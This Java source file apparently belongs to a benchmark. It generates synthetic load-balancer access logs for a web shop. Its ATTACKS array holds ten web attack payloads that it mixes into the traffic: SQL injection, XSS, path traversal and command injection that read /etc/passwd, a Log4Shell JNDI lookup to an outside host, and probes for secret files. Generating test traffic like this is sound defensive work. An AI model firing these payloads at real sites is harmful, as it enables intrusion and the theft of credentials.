package io.weir.bench.traffic;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Locale;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;

/**
 * Makes ALB log objects that look like a busy shop's: the same seed gives the same bytes. Clients,
 * paths and agents follow a power law, one client in twelve has IPv6 without brackets, one line in
 * two thousand is an attack, and nothing is malformed.
 */
final class LogGenerator {
  /** How often an attack stands among the lines. */
  static final int ATTACK_EVERY = 2000;

  private static final String[] ATTACKS = {
    "/item/7?id=1%27%20OR%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/../../../../etc/passwd",
    "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/.env",
    "/?x=$%7Bjndi:ldap://203.0.113.66/a%7D",
    "/cgi-bin/..%252f..%252f..%252fetc/passwd",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/item?id=1%20AND%20sleep%285%29",
    "/.git/config"
  };
  private static final String[] WORDS = {
    "shop",
    "item",
    "cart",
    "search",
    "account",
    "orders",
    "static",
    "images",
    "api",
    "v1",
    "v2",
    "news",
    "help",
    "login",
    "reviews",
    "category",
    "offers",
    "shipping",
    "media",
    "fonts"
  };
  private static final String[] METHODS = {"GET", "GET", "GET", "GET", "GET", "POST", "HEAD"};

  private final Random random;
  private final String[] paths = new String[3000];
  private final String[] agents = new String[120];
  private final String[] clients = new String[40_000];
  private final long startMicros;
  private final long spanMicros;
  private final int lines;

  LogGenerator(int lines, int minutes, long seed) {
    this.lines = lines;
    this.random = new Random(seed);
    this.startMicros = Instant.parse("2026-03-01T12:00:00Z").getEpochSecond() * 1_000_000;
    this.spanMicros = minutes * 60_000_000L;
    for (int i = 0; i < paths.length; i++) {
      paths[i] = path(i);
    }
    for (int i = 0; i < agents.length; i++) {
      agents[i] = agent(i);
    }
    for (int i = 0; i < clients.length; i++) {
      clients[i] = client(i);
    }
  }

  /** Writes the object, compressed as the load balancer does it. */
  static void write(Path file, int lines, int minutes, long seed) throws IOException {
    LogGenerator generator = new LogGenerator(lines, minutes, seed);
    try (OutputStream out =
        new GZIPOutputStream(new BufferedOutputStream(Files.newOutputStream(file)), 1 << 16) {
          {
            def.setLevel(Deflater.DEFAULT_COMPRESSION);
          }
        }) {
      StringBuilder line = new StringBuilder(1024);
      for (int i = 0; i < lines; i++) {
        line.setLength(0);
        generator.line(i, line);
        out.write(line.toString().getBytes(ISO_8859_1));
      }
    }
  }

  /** Appends the line with the number. */
  private void line(int number, StringBuilder out) {
    boolean tls = random.nextInt(10) < 8;
    String client = clients[skewed(clients.length)];
    String target = "10.0." + random.nextInt(3) + '.' + (10 + random.nextInt(8)) + ":8080";
    boolean answered = random.nextInt(200) > 0;
    int status = status(answered);
    long micros = startMicros + spanMicros / lines * number + random.nextInt(1000);
    double took = Math.exp(random.nextGaussian() * 0.9 - 3.4);
    out.append(tls ? (random.nextBoolean() ? "h2 " : "https ") : "http ");
    time(out, micros);
    out.append(" app/shop-frontend/0a1b2c3d4e5f6789 ").append(client).append(':');
    out.append(1024 + random.nextInt(60_000)).append(' ').append(answered ? target : "-");
    if (answered) {
      out.append(" 0.00").append(random.nextInt(3)).append(' ');
      seconds(out, took);
      out.append(" 0.000 ").append(status).append(' ').append(status);
    } else {
      out.append(" -1 -1 -1 ").append(status).append(" -");
    }
    out.append(' ').append(200 + random.nextInt(900)).append(' ').append(300 + skewed(60_000));
    out.append(" \"").append(METHODS[random.nextInt(METHODS.length)]);
    out.append(tls ? " https://shop.example.com:443" : " http://shop.example.com:80");
    target(number, out);
    out.append(tls ? " HTTP/2.0\" \"" : " HTTP/1.1\" \"").append(agents[skewed(agents.length)]);
    out.append(tls ? "\" TLS_AES_128_GCM_SHA256 TLSv1.3 " : "\" - - ");
    out.append("arn:aws:elasticloadbalancing:eu-west-1:000000000000:targetgroup/shop-frontend/");
    out.append("0123456789abcdef \"Root=1-");
    hex(out, 8);
    out.append('-');
    hex(out, 24);
    out.append(tls ? "\" \"shop.example.com\" \"session-reused\" " : "\" \"-\" \"-\" ");
    out.append(random.nextInt(9)).append(' ');
    time(out, (micros - (long) (took * 1e6)) / 1000 * 1000);
    out.append(answered ? " \"waf,forward\" \"-\" \"-\" \"" : " \"waf\" \"-\" \"-\" \"");
    out.append(answered ? target : "-").append("\" \"").append(answered ? status : "-");
    out.append("\" \"-\" \"-\" TID_");
    hex(out, 32);
    out.append(" \"-\" \"-\" \"-\"\n");
  }

  private void target(int number, StringBuilder out) {
    if (number % ATTACK_EVERY == ATTACK_EVERY / 2) {
      out.append(ATTACKS[number / ATTACK_EVERY % ATTACKS.length]);
      return;
    }
    out.append(paths[skewed(paths.length)]);
    if (random.nextInt(3) == 0) {
      out.append("?id=").append(random.nextInt(1_000_000)).append("&sort=price&page=");
      out.append(random.nextInt(40));
    }
  }

  private int status(boolean answered) {
    if (!answered) {
      return random.nextBoolean() ? 403 : 503;
    }
    int dice = random.nextInt(1000);
    return dice < 930 ? 200 : dice < 960 ? 304 : dice < 990 ? 404 : dice < 997 ? 302 : 500;
  }

  /** Returns an index of which small ones are much more likely. */
  private int skewed(int count) {
    double uniform = random.nextDouble();
    return (int) (count * uniform * uniform * uniform * uniform);
  }

  private String path(int index) {
    StringBuilder path = new StringBuilder();
    for (int depth = 0; depth < 1 + index % 4; depth++) {
      path.append('/').append(WORDS[random.nextInt(WORDS.length)]);
    }
    return index % 3 == 0
        ? path.append('/').append(random.nextInt(100_000)).toString()
        : path.toString();
  }

  private String agent(int index) {
    if (index % 15 == 14) {
      return "Mozilla/5.0 (compatible; examplebot/" + index + ".0; +http://bot.example.com/about)";
    }
    String system =
        index % 2 == 0 ? "Windows NT 10.0; Win64; x64" : "Macintosh; Intel Mac OS X 10_15_7";
    return "Mozilla/5.0 ("
        + system
        + ") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
        + (90 + index)
        + ".0.0.0 Safari/537.36";
  }

  private String client(int index) {
    if (index % 12 == 11) {
      return String.format(Locale.ROOT, "2001:db8:%x:%x::f%x", index, index % 97, index % 251);
    }
    return (1 + random.nextInt(220))
        + "."
        + random.nextInt(256)
        + "."
        + random.nextInt(256)
        + "."
        + random.nextInt(256);
  }

  private void hex(StringBuilder out, int digits) {
    for (int i = 0; i < digits; i++) {
      out.append(Character.forDigit(random.nextInt(16), 16));
    }
  }

  private static void seconds(StringBuilder out, double seconds) {
    long millis = Math.min(59_999, (long) (seconds * 1000));
    out.append(millis / 1000).append('.').append(millis / 100 % 10);
    out.append(millis / 10 % 10).append(millis % 10);
  }

  private static void time(StringBuilder out, long micros) {
    Instant instant = Instant.ofEpochSecond(micros / 1_000_000);
    String second = instant.toString();
    out.append(second, 0, second.length() - 1).append('.');
    String fraction = String.valueOf(1_000_000 + micros % 1_000_000);
    out.append(fraction, 1, 7).append('Z');
  }
}
